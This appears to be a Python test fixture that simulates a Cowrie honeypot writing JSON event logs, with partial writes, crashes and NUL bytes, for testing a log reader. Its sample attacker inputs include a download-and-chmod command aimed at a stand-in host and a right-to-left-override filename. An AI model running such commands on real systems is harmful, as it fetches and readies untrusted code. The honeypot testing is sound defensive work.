"""A honeypot: lines of unique events, and the process that writes them, which may die at any byte."""

from __future__ import annotations

import json
import os
import random
from collections import Counter
from pathlib import Path
from typing import Any

TEXTS = (
    "cat /proc/cpuinfo",
    "echo 'grüße, 世界 🐝' > /tmp/ü",
    'printf "\\x1b[31m%s\\n" "a\tb"',
    "\u202egnp.exe \u0000 end",
    "wget http://203.0.113.9/a;chmod 777 a",
    "\\\\\\",
    '""',
    "",
)
"""What attackers type: multi-byte characters, escapes, quotes; no braces, which keeps the model's parser simple."""


def event_line(seed: int, number: int, *, size: int = 0) -> bytes:
    """Return the line of an event without its newline; each number gives a line of its own, always the same.

    Args:
        seed: seed of the sequence.
        number: number of the event.
        size: minimum length of the line in bytes; 0 for no padding.
    """
    chance = random.Random(f"{seed}/{number}")
    stamp = number if chance.random() < 0.9 else number // 3 * 3  # sometimes several at the same time
    timestamp = f"2026-05-{1 + stamp // 86400:02d}T{stamp // 3600 % 24:02d}:{stamp // 60 % 60:02d}:{stamp % 60:02d}"
    fields: dict[str, Any] = {
        "eventid": "cowrie.command.input",
        "session": f"{chance.randrange(6):012x}",
        "timestamp": f"{timestamp}.000000Z",
        "src_ip": f"198.51.100.{chance.randrange(9)}",
        "sensor": chance.choice(["hp1", "hp2"]),
        "number": number,
    }
    fields |= _kind_fields(chance)
    if chance.random() < 0.02:
        del fields["session"]
    if size:
        fields = {"fill": ""} | fields
        fields["fill"] = "x" * max(0, size - len(_line(fields, ascii_only=True)))
        return _line(fields, ascii_only=True)
    return _line(fields, ascii_only=chance.random() < 0.5)


def _kind_fields(chance: random.Random) -> dict[str, Any]:
    kind = chance.randrange(12)
    if kind == 0:
        return {"eventid": "cowrie.session.connect", "protocol": chance.choice(["ssh", "telnet"])}
    if kind == 1:
        return {"eventid": "cowrie.login.failed", "username": chance.choice(TEXTS), "password": chance.choice(TEXTS)}
    if kind == 2:
        return {"eventid": "cowrie.login.success", "username": "root", "password": chance.choice(TEXTS)}
    if kind == 3:
        shasum = f"{chance.randrange(5):064x}"
        return {"eventid": "cowrie.session.file_download", "shasum": shasum, "url": "http://203.0.113.9/a"}
    if kind == 4:
        shasum = f"{chance.randrange(5):064x}"
        return {"eventid": "cowrie.session.file_upload", "shasum": shasum, "filename": chance.choice(TEXTS) or "up"}
    if kind == 5:
        return {"eventid": "cowrie.client.kex", "kexAlgs": ["a", "b@c", "d"], "hassh": f"{chance.randrange(3):032x}"}
    if kind == 6:
        return {"eventid": "cowrie.session.closed", "duration": 1.5}
    return {"input": chance.choice(TEXTS)}


def _line(fields: dict[str, Any], *, ascii_only: bool) -> bytes:
    return json.dumps(fields, ensure_ascii=ascii_only).encode("utf-8", "surrogateescape")


class Honeypot:
    """The process that writes a log, whole lines or parts, to whatever file its descriptor refers to.

    Attributes:
        written: how often each line was completely written, keyed without its newline.
        waiting: the rest of the line that was begun.
        inode: the inode that it writes to, None if it has no file open.

    Args:
        path: the live log.
        seed: seed of the sequence.
    """

    def __init__(self, path: Path, seed: int) -> None:
        self.path = path
        self.written: Counter[str] = Counter()
        self.waiting = b""
        self.inode: int | None = None
        self._seed = seed
        self._number = 0
        self._line = b""
        self._descriptor = -1

    @property
    def is_open(self) -> bool:
        """Whether it has a file open."""
        return self.inode is not None

    def open(self, *, appends: bool) -> None:
        """Open the live log; without `appends` it writes at its own offset, even after a truncation by others."""
        self.close()
        self._descriptor = os.open(self.path, os.O_WRONLY | os.O_CREAT | (os.O_APPEND if appends else 0), 0o644)
        os.lseek(self._descriptor, 0, os.SEEK_END)
        self.inode = os.fstat(self._descriptor).st_ino

    def close(self) -> None:
        """Close the file."""
        if self._descriptor >= 0:
            os.close(self._descriptor)
        self._descriptor, self.inode = -1, None

    def append(self, count: int, *, twice: bool = False, size: int = 0, line: bytes = b"") -> None:
        """Write whole lines, after the rest of a line that was begun; with `twice` the first of them twice."""
        lines = [line or self._next(size=size) for _ in range(count)]
        if twice:
            lines.insert(0, lines[0])
        self.finish()
        self._write(b"".join(text + b"\n" for text in lines))
        self.written.update(text.decode() for text in lines)

    def begin_line(self, cut: int) -> None:
        """Write a part of a line, or a further part of the line that was begun."""
        if not self.waiting:
            self._line = self._next()
            self.waiting = self._line + b"\n"
        # Half of the cuts are at the hardest positions: inside a character, inside an escape, before the newline.
        hard = [at for at, byte in enumerate(self.waiting) if byte >= 0x80 or byte == 0x5C] + [len(self.waiting) - 1]
        end = hard[cut // 2 % len(hard)] if cut % 2 else cut // 2 % len(self.waiting)
        self._write_part(max(1, end))

    def finish(self) -> None:
        """Write the rest of the line that was begun."""
        self._write_part(len(self.waiting))

    def abandon(self) -> None:
        """Forget the line that was begun, as when the process dies."""
        self.waiting = self._line = b""

    def write_nuls(self, count: int) -> None:
        """Write NUL bytes, as a power failure leaves them."""
        self._write(b"\0" * count)

    def _write_part(self, end: int) -> None:
        part, self.waiting = self.waiting[:end], self.waiting[end:]
        self._write(part)
        if self._line and not self.waiting.strip(b"\n"):
            self.written[self._line.decode()] += 1
            self._line = b""

    def _next(self, *, size: int = 0) -> bytes:
        self._number += 1
        return event_line(self._seed, self._number, size=size)

    def _write(self, data: bytes) -> None:
        if data:
            os.write(self._descriptor, data)
